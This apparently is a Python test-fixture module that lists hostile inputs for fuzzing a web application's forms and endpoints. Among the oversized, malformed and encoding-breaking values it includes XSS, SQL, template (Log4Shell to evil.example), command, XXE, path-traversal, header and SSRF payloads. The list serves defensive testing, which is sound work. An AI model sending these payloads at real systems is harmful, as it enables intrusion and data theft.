"""Ugly input: one table of what people, programs and attackers send, for every form and endpoint.

`TEXTS` stand for one value: a field, a part of a path, a query, a header, a cookie. `BODIES` are whole requests.
"""

# ruff: noqa: E501 (what is sent may be long, and a table is read by its rows)

import json
from collections.abc import Iterator
from itertools import chain
from typing import NamedTuple

ONE_MEGABYTE = 1_000_000


class HostileValue(NamedTuple):
    """One bad value. Bytes are what a UTF-8 text cannot be."""

    name: str
    value: str | bytes


class HostileBody(NamedTuple):
    """One bad request body with its content type."""

    name: str
    body: bytes
    content_type: str


def _build_values(name: str, *values: str | bytes) -> Iterator[HostileValue]:
    return (HostileValue(f"{name} {number}", value) for number, value in enumerate(values, 1))


EMPTY_VALUES = _build_values(
    "nothing", "", " ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2028", "\u2029", "\ufeff", " \t\n" * 500,
    "-", ".", "…", "؟", "ـ" * 300, "null", "undefined", "None",
)  # fmt: skip
LONG_VALUES = _build_values(
    "long", "a" * ONE_MEGABYTE, "ح" * 400_000, "ا" * 4001, "س" * 20_001, "x" * 256, "x" * 255 + "ض", "w" * 65_536,
    "كلمة " * 20_000, "\n" * 50_000, "(" * 5_000, "\\" * 5_000, "a" * 50_000 + "!", "9" * 5_000, "٩" * 5_000,
    "🇯🇴" * 5_000, "<" * 5_000, "&" * 5_000, "%" * 5_000, "0." + "0" * 5_000 + "1",
)  # fmt: skip
CONTROL_CHARACTERS = _build_values(
    "control", "\x00", "حفرة\x00 في", "\x01", "\x07", "\x08" * 40, "\x0b", "\x0c", "\x0e", "\x1a", "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\x1f", "\x7f", "\x80", "\x85", "\x9b", "a\rb", "\ufffd", "\ufffe", "\uffff", "\U0010ffff",
    "\ue000", "\u00ad" * 50,
)  # fmt: skip
LONE_SURROGATES = _build_values(
    "half of a character", "\ud800", "\udfff", "س\ud83d", "\ude00س", "\udc80", "\udfff\ud800", "a" * 100 + "\ud800",
)  # fmt: skip
BIDI_CHARACTERS = _build_values(
    "direction", *(f"قبل{mark}بعد" for mark in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    "\u202e" * 200 + "gpj.exe", "\u2067\u2066" * 100, "user\u202etxt.exe", "أهلا hello 123 \u202dمرحبا",
)  # fmt: skip
INVISIBLE_CHARACTERS = _build_values(
    "invisible", "\u200b", "\u200c", "\u200d" * 200, "\u2060", "\u180e", "\u034f", "س\u200bر", "\ufe0f" * 60, "\u115f",
    "\u3164", "".join(chr(0xE0000 + ord(c)) for c in "hidden"), "a\ufeffb", "\u200b@\u200b.\u200b",
)  # fmt: skip
COMBINING_CHARACTERS = _build_values(
    "combining flood", "س" + "\u064b" * 500, "Z" + "\u0335\u0322\u033e" * 300, "ﷺ" * 300, "﷽" * 300, "\u0670" * 1000,
    "👨\u200d👩\u200d👧" * 200, "e\u0301" * 1000, "\u1ea0" * 1000, "ﻻ" * 500, "ٱلسَّلَامُ" * 200,
)  # fmt: skip
MARKUP_INJECTIONS = _build_values(
    "markup", "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "<iframe src=//evil.example>",
    "<!--", "-->", "<![CDATA[x]]>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0>",
    "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\u003cscript\u003e", "<scr<script>ipt>", "<ScRiPt >x</sCrIpT>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "＜script＞", "<object data=x>", "<form action=//evil.example>",
    "<base href=//evil.example>", "x\" onfocus=alert(1) autofocus=\"", "x' style='x:expression(alert(1))", "`${alert(1)}`",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>",
)  # fmt: skip
SQL_INJECTIONS = _build_values(
    "SQL", "'", "\"", "';--", "' OR '1'='1", "1; DROP TABLE \"case\";--", "') UNION SELECT NULL--", "1' AND SLEEP(5)--",
    "'; SELECT pg_sleep(5);--", "$$", "$1", "%s", "%(name)s", "\\'", "E'\\x00'", "{1,2}", "ARRAY[1]", "::int", "1 OR 1=1",
    "/* */", "COPY x FROM PROGRAM 'id'", "%", "_", "a:*", "a & | b", "!a <-> b", "((((((", "' || version() || '",
)  # fmt: skip
TEMPLATE_INJECTIONS = _build_values(
    "template", "{{ 7*7 }}", "{% debug %}", "{% load x %}", "{{ request.user.password }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{0.__class__}", "{reference}", "{code}", "{", "}", "{}", "{!r}", "{:>999999999}", "%n%n%n%n", "%999999999d", "%(x)s %d",
    "${jndi:ldap://evil.example/a}", "__import__('os').system('id')", "{{constructor.constructor('x')()}}",
)  # fmt: skip
PATH_TRAVERSALS = _build_values(
    "path", "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "....//....//etc/passwd",
    "%2e%2e%2f", "%252e%252e%252f", "..%c0%af", "..;/", "C:\\boot.ini", "\\\\evil.example\\share", "con.txt", "a/b/c",
    "~root", ".git/config", "%00.jpg", "x.php.jpg", "//", "/./", "?x=y#z", "%", "%zz", "a%0d%0ab",
)  # fmt: skip
HEADER_INJECTIONS = _build_values(
    "header", "x\r\nSet-Cookie: evil=1", "x\nLocation: //evil.example", "x\r\n\r\n<html>", "\r\nBcc: all@example.com",
    "x%0d%0aSet-Cookie:evil=1", "x\u560d\u560aSet-Cookie: evil=1", "a@example.com\nBcc: b@example.com", "x; y=z, \"",
    "Bearer", "Bearer ", "Bearer " + "x" * 5000, "Basic YTpi", "W/\"\"", "\"\"", "*", "\"-1\"", "\"1\", \"2\"",
)  # fmt: skip
URL_VALUES = _build_values(
    "address", "//evil.example", "///evil.example", "/\\evil.example", "\\/evil.example", "https:evil.example",
    "https://evil.example", "http://169.254.169.254/latest/meta-data/", "http://[::1]:5432/", "gopher://127.0.0.1:25/",
    "ftp://x", "https://user:pw@evil.example", "https://localhost@evil.example", "\t//evil.example", "/%09/evil.example",
    "http:///evil.example", "javascript://%0aalert(1)", "vbscript:x", "mailto:x", "/desk//evil.example/..", "?next=//evil.example",
)  # fmt: skip
COMMAND_INJECTIONS = _build_values(
    "command", "; id", "| id", "`id`", "$(id)", "&& id", "() { :;}; id", "-rf /", "--help", "*)(uid=*))(|(uid=*",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)",
    "O:8:\"stdClass\":0:{}", "rO0ABXNyAA==", "\x80\x04\x95.", "!!python/object/apply:os.system [id]", "YWJj" * 100,
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",
)  # fmt: skip
NUMBER_VALUES = _build_values(
    "number", "0", "-1", "-0", "1.5", "1,5", "1e400", "-1e400", "1e-400", "NaN", "Infinity", "-Infinity", "inf", "0x10",
    "1_000", "2147483648", "9223372036854775808", "18446744073709551616", "-9223372036854775809", "1" * 400, "00", "+5", "²",
    "½", "١٢٣", "۱۲۳", "１２３", "12 3", "٠٧٩١٢٣٤٥٦٧", "۰۷۹۱۲۳۴۵۶۷", "1e5", "true", "1;2", "999999999999",
)  # fmt: skip
DATE_VALUES = _build_values(
    "date", "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-2026-01-01", "2026-1-1",
    "31/12/2026", "12/31/2026", "2026-11-26T25:00:00Z", "2026-11-26T10:00:00", "2026-11-26T10:00:00+99:99", "2026-W48",
    "2026-330", "2026-12-31T23:59:60Z", "1969-12-31", "1764144000", "2026-11-26T10:00:00.123456789123Z", "٢٠٢٦-١١-٢٦", "tomorrow",
    "1448-02-30", "2026-11-26 10:00", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59",
)  # fmt: skip
NAME_VALUES = _build_values(
    "who", "@", "a@", "@b", "a@b", "a@b..c", "a b@example.com", "\"<script>\"@example.com", "a@[127.0.0.1]", "a@xn--80ak6aa92e.com",
    "ا@مثال.أردن", "a" * 65 + "@example.com", "a@" + "b." * 150 + "com", "079", "0791234567890123", "+00000000000", "+962", "tel:0791234567",
    "0791234567;0791234568", "BK-0000-0000", "bk-7f3k-92md", "BK-OOOO-IIII", "BK--", "0000000000", "9" * 10, "O'Brien", "Null",
    "خالد\x00", "١", "ﺧﺎﻟﺪ", "Ⓐⓓⓜⓘⓝ",
)  # fmt: skip
JSON_TEXTS = _build_values(
    "JSON", "{}", "[]", "\"\"", "{\"a\": 1}", "[[[[[[]]]]]]", "{\"$ne\": null}", "{\"__proto__\": {}}", "\\u0000", "\\ud800", "'",
)  # fmt: skip
NOT_UTF8 = _build_values(
    "not UTF-8", b"\xff", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf8\x88\x80\x80\x80", b"\xed\xa0\x80", b"\xed\xb0\x80\xed\xa0\x80",
    b"\xd8", b"\x80", b"\xfe\xff\x06\x2d", b"\xff\xfe\x2d\x06", "حفرة في الشارع".encode("cp1256"), "حفرة".encode("iso8859-6"),
    "حفرة".encode("utf-16"), "حفرة".encode("utf-32"), b"\xf4\x90\x80\x80", b"\x1f\x8b\x08\x00", b"PK\x03\x04", b"GIF89a/*<svg/onload=alert(1)>*/",
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", b"\x89PNG\r\n\x1a\n", b"a\xffb" * 1000,
)  # fmt: skip

HOSTILE_TEXTS: tuple[HostileValue, ...] = tuple(
    chain(
        EMPTY_VALUES, LONG_VALUES, CONTROL_CHARACTERS, LONE_SURROGATES, BIDI_CHARACTERS, INVISIBLE_CHARACTERS, COMBINING_CHARACTERS, MARKUP_INJECTIONS, SQL_INJECTIONS, TEMPLATE_INJECTIONS, PATH_TRAVERSALS, HEADER_INJECTIONS, URL_VALUES,
        COMMAND_INJECTIONS, NUMBER_VALUES, DATE_VALUES, NAME_VALUES, JSON_TEXTS, NOT_UTF8,
    )
)  # fmt: skip

# What stands where JSON expects a value: raw, for a text in quotes is only one sort of value.
JSON_VALUES: tuple[HostileValue, ...] = tuple(
    _build_values(
        "JSON value", b"null", b"true", b"false", b"0", b"-1", b"1.5", b"1e400", b"-1e400", b"1e-400", b"NaN", b"Infinity", b"[]", b"{}",
        b"[null]", b'[""]', b'{"a": 1}', b'{"$ne": null}', b"9" * 400, b"9" * 5_000, b"2147483648", b"9223372036854775808", b"[" * 500 + b"]" * 500,
        b'{"a":' * 500 + b"1" + b"}" * 500, b"[" + b"1," * 5_000 + b"1]", b'"\\ud800"', b'"\\u0000"', b'"\\udfff\\ud800"', b"tru", b"", b"'x'", b"undefined", b'"x', b"\"\xff\"",
    )
)  # fmt: skip

JSON, FORM, MULTIPART = (
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
)


def _build_bodies(kind: str, content_type: str, *bodies: bytes) -> Iterator[HostileBody]:
    return (HostileBody(f"{kind} {number}", body, content_type) for number, body in enumerate(bodies, 1))


def _build_part(name: str, content: bytes, more: str = "") -> bytes:
    return f'--x\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n'.encode() + content + b"\r\n"


JSON_BODIES = _build_bodies(
    "JSON body", JSON, b"", b"{", b"}", b"[" * 10_000 + b"]" * 10_000, b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    b"[" * 100_000, b"null", b"true", b"7", b'"x"', b"[]", b"[{}]", b"{}", b"NaN", b"Infinity", b'{"text": NaN}',
    b'{"lat": 1e400, "lng": -1e400}', b'{"text": "a", "text": "b"}', b'{"text": {"$gt": ""}}', b'{"text": ["a"]}',
    b'{"text": 1}', b'{"text": null}', b"{'text': 'x'}", b'{"text": "x",}', b'// x\n{"text": "x"}', b"\xef\xbb\xbf{}",
    b'{"text": "\xff"}', b'{"text": "\xc0\xaf"}', b'{"text": "\\ud800"}', b'{"\\ud800": 1}', b'{"text": "\\u0000"}',
    json.dumps({"text": "حفرة"}).encode("utf-16"), json.dumps({"text": "حفرة"}).encode("utf-32"),
    json.dumps({"text": "حفرة"}, ensure_ascii=False).encode("cp1256"), b'{"until": ' + b"9" * 5_000 + b"}",
    json.dumps({f"field{n}": n for n in range(10_000)}).encode(), json.dumps({"text": "a" * ONE_MEGABYTE}).encode(),
    b'{"__proto__": {"x": 1}, "constructor": 1}', b'{"kind": ["complaint"], "text": {}}', b'{"applicant": [], "about": 7}',
    b'{"uploads": ["' + b'x","' * 1_000 + b'"]}', b"\x1f\x8b\x08\x00\x00\x00\x00\x00", b"text=x&kind=complaint",
    b"\x00" * 1_000, b'{"text": "x"}{"text": "y"}', b'{"text": tru}', b" " * 100_000 + b"{}",
)  # fmt: skip
OTHER_CONTENT_TYPES = (
    HostileBody(f"content type {number}", b'{"text": "x"}', content_type)
    for number, content_type in enumerate(
        ("", "x", "text/plain", "text/html", "application/xml", "application/json; charset=utf-7", "image/png",
         "application/json; charset=utf-16", "application/json; charset=nonsense", "application/x-www-form-urlencoded; charset=utf-16",
         "application/x-www-form-urlencoded; charset=nonsense", "application/x-www-form-urlencoded; charset=utf-7", "multipart/form-data",
         "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "b" * 300, "multipart/form-data; boundary=\u00e9",
         "multipart/mixed; boundary=x", "/" * 200, ";" * 200, "application/json\x00"), 1)
)  # fmt: skip
FORM_BODIES = _build_bodies(
    "form", FORM, b"", b"&" * 10_000, b"=" * 10_000, b"&".join(b"f%d=x" % n for n in range(10_000)), b"%", b"%zz=%zz",
    b"text=%ff%fe", b"text=%C0%AF", b"text=%ED%A0%80", b"text=%00", b"text=a&text=b&text=c", b"text", b"=x", b"text[]=x&text[a]=y",
    b"text=" + b"a" * ONE_MEGABYTE, b"a" * 300_000 + b"=x", b"_charset_=utf-7&text=%2BADw-", "text=حفرة".encode(), "text=حفرة".encode("cp1256"),
    b"step=nonsense&go=nonsense", b"step=check&go=send", b"go=send&key=&kind=&text=", b"seen=-1&text=x", b"seen=99999999999999999999&text=x",
    b"seen=%D9%A1&text=x", b"seen=1e3&text=x", b"csrfmiddlewaretoken=x", b'{"text": "x"}', b"\x00\x01\x02", b"text=x;kind=y",
    b"__proto__=1&constructor=2", b"page=0&p=-1&ordering=password", b"next=//evil.example&login=x&password=y",
)  # fmt: skip
MULTIPART_BODIES = _build_bodies(
    "multipart", MULTIPART, b"", b"--", b"--x", b"--x--", b"--x\r\n", b"--y\r\n\r\n--y--", _build_part("text", b"x"),
    _build_part("text", b"x") + b"--x--", _build_part("text", b"a" * ONE_MEGABYTE) + b"--x--", _build_part("", b"x") + b"--x--",
    b"".join(_build_part(f"f{n}", b"x") for n in range(2_000)) + b"--x--", _build_part("text", b"\xff\xfe") + b"--x--",
    _build_part("file", b"GIF89a", '; filename="../../x.gif"') + b"--x--", _build_part("file", b"x", '; filename=""') + b"--x--",
    _build_part("file", b"x", '; filename="a\\"b"') + b"--x--", _build_part("file", b"x", "; filename*=UTF-8''%00%ff") + b"--x--",
    _build_part("file", b"x", f'; filename="{"n" * 5_000}.png"') + b"--x--", b"--x\r\nContent-Disposition: x\r\n\r\ny\r\n--x--",
    b"--x\r\n" + b"X: y\r\n" * 2_000 + b"\r\n\r\n--x--", b"--x\r\nContent-Disposition: form-data; name=text\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n--x--",
    b"".join(_build_part("file", b"x", f'; filename="{n}.png"') for n in range(50)) + b"--x--",
)  # fmt: skip
HOSTILE_BODIES: tuple[HostileBody, ...] = tuple(
    chain(JSON_BODIES, OTHER_CONTENT_TYPES, FORM_BODIES, MULTIPART_BODIES)
)
